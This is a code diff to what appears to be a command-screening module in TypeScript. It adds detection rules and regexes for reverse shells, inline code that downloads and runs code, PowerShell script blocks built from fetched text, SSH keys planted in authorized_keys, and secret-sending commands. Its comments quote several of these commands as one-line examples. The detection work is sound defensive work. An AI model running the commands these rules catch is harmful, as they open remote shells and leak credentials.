@@ -15,6 +15,7 @@ import {
   hasShort,
   isDecoder,
   isFetch,
+  inlineCode,
   isInterpreterName,
   nestedSource,
   installedPackages,
@@ -34,6 +35,7 @@ import {
   baseName,
   writeTargets,
 } from "./risk-view.ts";
+import { plantedKey, reverseShell, SOCKET_FDS } from "./risk-remote-access.ts";
 import { CODE_SENDS_SECRETS_LINE, exposedSecrets, sentSecrets } from "./risk-secrets.ts";
 import { foldConfusables, removeInvisible, showInvisible } from "./screening-text.ts";
 import { parseShell, type Redirect } from "./shell.ts";
@@ -181,6 +183,11 @@ const FRAMEWORK_DB_RESET =
   /\b(rails|rake)\b.*\bdb:(drop|reset|schema:load|migrate:reset|purge)\b|\bprisma (migrate reset|db push .*--(force-reset|accept-data-loss))|\bmanage\.py (flush|reset_db)\b|\bartisan (migrate:(fresh|reset|refresh)|db:wipe)\b|\bsequelize(-cli)? db:drop\b|\bknex migrate:rollback --all\b|\balembic downgrade base\b|\btypeorm schema:drop\b|\bdoctrine:(database:drop|schema:drop)\b/;
 const DECODE_CALL =
   /b64decode|base64\.decode|decode\(['"]base64|frombase64string|atob\(|buffer\.from\([^)]*base64|codecs\.decode|unhexlify|decode_base64|unpack\(['"]m/i;
+// Inline code that downloads (urlopen, requests.get, https.get, fetch, Net::HTTP, LWP, open-uri, file_get_contents of a URL) …
+const CODE_FETCHES =
+  /urlopen\s*\(|requests\.get\s*\(|httpx\.get\s*\(|https?\.get\s*\(|\bfetch\s*\(|Net::HTTP|LWP::|HTTP::Tiny|open-uri|URI\.open|file_get_contents\s*\(\s*["']https?:|\bget\s*\(\s*["']https?:/;
+// … and runs what it got as code
+const CODE_EVALUATES = /\bexec\s*\(|\beval\s*[(\s]|new\s+Function\s*\(|vm\.runIn\w*Context|\binstance_eval\b|\bcompile\s*\(/;
 const EXEC_CALL = /\bexec\b|\beval\b|os\.system|subprocess|popen|child_process|execSync|invoke-expression|\biex\b|\bsystem\(|Function\(/i;
 
 const isEvalLike = (n: string) => n === "eval" || n === "iex" || n === "invoke-expression" || n === "source" || n === ".";
@@ -202,6 +209,8 @@ const HOW_HIDDEN: Record<Exclude<View["hidden"], "decoded" | undefined>, string>
   quotes: "quotes inside the word",
   backslashes: "backslashes inside the word",
   echo: "a command substitution that echoes it",
+  escapes: "escape codes ($'\\x63…')",
+  variables: "pieces in variables",
 };
 
 // --- Command rules, in the order their flags are reported -----------------------------------------
@@ -952,6 +961,23 @@ export const COMMAND_RULES: readonly CommandRule[] = [
   },
 
   // local secrets sent off the machine (risk-secrets.ts): curl -d @~/.ssh/id_rsa, scp ~/.aws/credentials host:, env | curl …
+  // a shell a remote host controls (bash -i >& /dev/tcp/h/p 0>&1, nc -e /bin/sh h p), a key given in the trail added to authorized_keys
+  {
+    flag: "remote_script_execution",
+    level: "graded",
+    match: (v, ctx) => reverseShell(v, (ctx.vars.get(SOCKET_FDS) ?? "").split(",")),
+  },
+  {
+    flag: "remote_script_execution",
+    level: "high",
+    match: (v, ctx) =>
+      plantedKey(v, [
+        ...(ctx.outerRedirects ?? []).filter((r) => />/.test(r.op)).map((r) => r.target),
+        ...writeTargets(v).map((w) => w.target),
+        // `printf … | tee -a ~/.ssh/authorized_keys`
+        ...(ctx.pipedInto === "tee" ? (ctx.pipedIntoArgs ?? []).filter((x) => !x.startsWith("-")) : []),
+      ]),
+  },
   // and handed out without a send: a file server over ~ or /, ~/.aws mounted into a stranger's image, git add .env (exposedSecrets)
   {
     flag: "sends_local_secrets",
@@ -1011,6 +1037,20 @@ export const COMMAND_RULES: readonly CommandRule[] = [
     flag: "remote_script_execution",
     level: "high",
     match: (v) => !evaluatesText(v.name) && hiddenArgument(v) === "fetch" && `${v.name} runs a script fetched from the network`,
+  },
+  {
+    // python -c "exec(urllib.request.urlopen('https://…').read())", node -e "https.get(…, r => … eval(d))"
+    flag: "remote_script_execution",
+    level: "high",
+    match: (v) => {
+      const code = isInterpreterName(v.name) ? inlineCode(v) : null;
+      return (
+        code !== null &&
+        CODE_FETCHES.test(code) &&
+        CODE_EVALUATES.test(code) &&
+        `${v.name} runs inline code that downloads code and runs it`
+      );
+    },
   },
   {
     flag: "obfuscated_command",
@@ -1175,6 +1215,24 @@ function deceptiveHosts(t: string): string | null {
 
 export const TEXT_RULES: readonly TextRule[] = [
   { flag: "obfuscated_command", level: "high", match: deceptiveHosts },
+  {
+    // New-Object Net.Sockets.TCPClient("h",p); … iex $d …: the PowerShell reverse shell one-liner (its `;` split it into commands)
+    flag: "remote_script_execution",
+    level: "high",
+    match: (t) =>
+      /Sockets\.TCPClient\s*\([^\n]{0,1500}?(\biex\b|invoke-expression)/i.test(t)
+        ? "PowerShell connects to a remote host and runs what it sends (a reverse shell)"
+        : null,
+  },
+  {
+    // & ([scriptblock]::Create((iwr https://…).Content)): PowerShell runs fetched text without iex
+    flag: "remote_script_execution",
+    level: "high",
+    match: (t) =>
+      /\[scriptblock\]::create\s*\([^\n]{0,300}?(\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|downloadstring|webclient)/i.test(t)
+        ? "PowerShell makes a script block of text fetched from the network and runs it"
+        : null,
+  },
   {
     flag: "database_destructive",
     level: "high",
